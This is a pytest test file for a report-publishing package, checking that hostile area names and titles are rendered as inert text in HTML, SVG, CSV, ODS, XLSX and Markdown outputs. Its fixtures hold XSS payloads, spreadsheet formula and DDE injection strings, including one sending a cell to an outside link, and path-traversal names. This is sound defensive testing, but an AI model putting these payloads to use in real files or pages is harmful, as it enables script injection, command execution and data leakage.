"""Names and titles that mean harm are words in every output: nothing runs, nothing breaks."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pandas as pd
import pytest

import carerates as cr
from carerates.reports.cells import clean_text, file_name, neutral_text, one_line

SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
NAMES = [
    SCRIPT,
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "‮desrever‬ Môn‏",
    "A" * 10_000,
    "🏴󠁧󠁢󠁷󠁬󠁳󠁿 🤖",
    "Two\nlines\r\nand\ta tab",
    "\"Quoted\" 'names' & <b>ampersands</b> ]]>",
    "[click](javascript:alert(1)) $$note$$ $x^2$ {{ 7*7 }} {% raw %}",
    "مدينة",
    "nul\x00\x1b[31m\x7f",
    "−5.5",
    "|pipe| `code` *stars*",
    "../../etc/passwd",
]
TITLE = f"{SCRIPT} =1+1 ‮ {'B' * 3000} $\\frac$ {{{{ 7*7 }}}} \x07"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    areas = pd.DataFrame(
        {
            "area_code": [f"X{n:03d}" for n in range(len(NAMES))],
            "area_name": NAMES,
            "year": 2018,
            "children": [60 + 10 * n for n in range(len(NAMES))],
            "population": 10_000,
        }
    )
    funnel = cr.funnel(areas)
    out = tmp_path_factory.mktemp("hostile") / "out"
    return cr.publish(funnel, out, TITLE, name="../../../tmp/evil\x00 = name", alternative="").parent


def test_files_stay_in_their_folder_under_plain_names(hostile: Path) -> None:
    names = [path.relative_to(hostile).as_posix() for path in hostile.rglob("*") if path.is_file()]
    assert all(re.fullmatch(r"[A-Za-z0-9.\-/]+", name) for name in names)
    assert "tmp-evil-name.ods" in names
    assert [path.name for path in hostile.parent.iterdir()] == ["out"]


def test_the_page_holds_no_markup_from_the_data(hostile: Path) -> None:
    page = (hostile / "index.html").read_text("utf-8")
    assert "<script" not in page
    assert "<img" not in page
    assert "<b>" not in page
    assert "&lt;script&gt;" in page
    assert "49" not in re.findall(r"<h1>(.*?)</h1>", page, re.DOTALL)[0]
    assert not re.search("[\u202a-\u202e\u200f\x00\x07\x1b]", page)
    assert 'href="javascript' not in page


def test_the_chart_is_sound_xml_without_a_script(hostile: Path) -> None:
    root = ET.fromstring((hostile / "chart.svg").read_text("utf-8"))
    kinds = {element.tag.split("}")[1] for element in root.iter()}
    assert not kinds & {"script", "image", "foreignObject", "a"}
    assert not [name for element in root.iter() for name in element.attrib if name.lower().startswith("on")]
    # a name of ten thousand letters is shortened on the chart, and whole in the table
    assert max(len(element.text or "") for element in root.iter() if element.tag.endswith("}text")) < 300


def test_no_cell_of_a_csv_begins_a_formula(hostile: Path) -> None:
    for path in hostile.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
            for cell in row:
                if re.fullmatch(r"[+-]?\d[\d.,]*(e[+-]?\d+)?", cell):
                    continue  # a number, negative or not
                assert not re.match(r"\s*[=+\-@\t\r|%]", cell), (path.name, cell[:40])


def test_negative_numbers_stay_numbers(hostile: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((hostile / "data.csv").read_text("utf-8-sig"))))
    assert min(float(row["z"]) for row in rows) < -2


def test_the_ods_holds_texts_and_no_formula(hostile: Path) -> None:
    with zipfile.ZipFile(hostile / "tmp-evil-name.ods") as package:
        content = package.read("content.xml").decode("utf-8")
    root = ET.fromstring(content)
    assert "formula" not in content
    links = [
        value for element in root.iter() for name, value in element.attrib.items() if name.endswith("}href")
    ]
    assert all(link.startswith("#'") for link in links)
    assert "A" * 10_000 in content
    assert "مدينة" in content
    texts = ["".join(element.itertext()) for element in root.iter() if element.tag.endswith("}table-cell")]
    assert not [text for text in texts if re.match(r"[=+@]", text)]


def test_the_xlsx_holds_texts_and_neither_formula_nor_foreign_link(hostile: Path) -> None:
    with zipfile.ZipFile(hostile / "tmp-evil-name.xlsx") as package:
        everything = {name: package.read(name).decode("utf-8") for name in package.namelist()}
    for name, text in everything.items():
        ET.fromstring(text)
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in text
    assert not [name for name in everything if "externalLink" in name or "vbaProject" in name]
    assert not [text for name, text in everything.items() if name.endswith(".rels") and "External" in text]
    strings = ["".join(one.itertext()) for one in ET.fromstring(everything["xl/sharedStrings.xml"])]
    assert "مدينة" in strings
    assert "A" * 10_000 in strings
    assert [text for text in strings if text.startswith("[click](javascript")]  # as text, not as a link
    assert not [text for text in strings if re.match(r"[=+@]", text)]


def test_the_markdown_holds_no_markup_from_the_data(hostile: Path) -> None:
    text = (hostile / "page.md").read_text("utf-8")
    assert "<script" not in text.replace("\\<", "")
    assert not re.search(r"(?<!\\)\]\(javascript", text)


def test_side_cars_and_receipt_are_sound(hostile: Path) -> None:
    for path in hostile.rglob("*.json"):
        json.loads(path.read_text("utf-8"))
    done = cr.verify(hostile)
    assert done.passed, done.summary()


@pytest.mark.parametrize(
    ("text", "neutral"),
    [
        ("=1", "'=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("-12.5", "-12.5"),
        ("-12.5%", "-12.5%"),
        ("-1,234", "-1,234"),
        ("−12.5", "−12.5"),
        ("-a", "'-a"),
        ("-1+cmd", "'-1+cmd"),
        ("Gwynedd", "Gwynedd"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_only_what_could_be_a_formula_is_marked(text: str, neutral: str) -> None:
    assert neutral_text(text) == neutral
    assert neutral_text(neutral) == neutral


def test_texts_are_cleaned_and_not_rewritten() -> None:
    assert clean_text("a\x00b\u202ec\ud800d") == "abcd"
    assert one_line(" a\n b\t c ") == "a b c"
    assert clean_text("Ynys Môn, Sir y Fflint – ŵŷ 🏴") == "Ynys Môn, Sir y Fflint – ŵŷ 🏴"


@pytest.mark.parametrize("name", ["CON", "com1", "..", "/", "", "  ", "a" * 500, "ŵ/ŷ\\:*?"])
def test_file_names_are_plain(name: str) -> None:
    made = file_name(name)
    assert re.fullmatch(r"[a-z0-9\-]{1,100}", made)
    assert made not in {"con", "com1"}
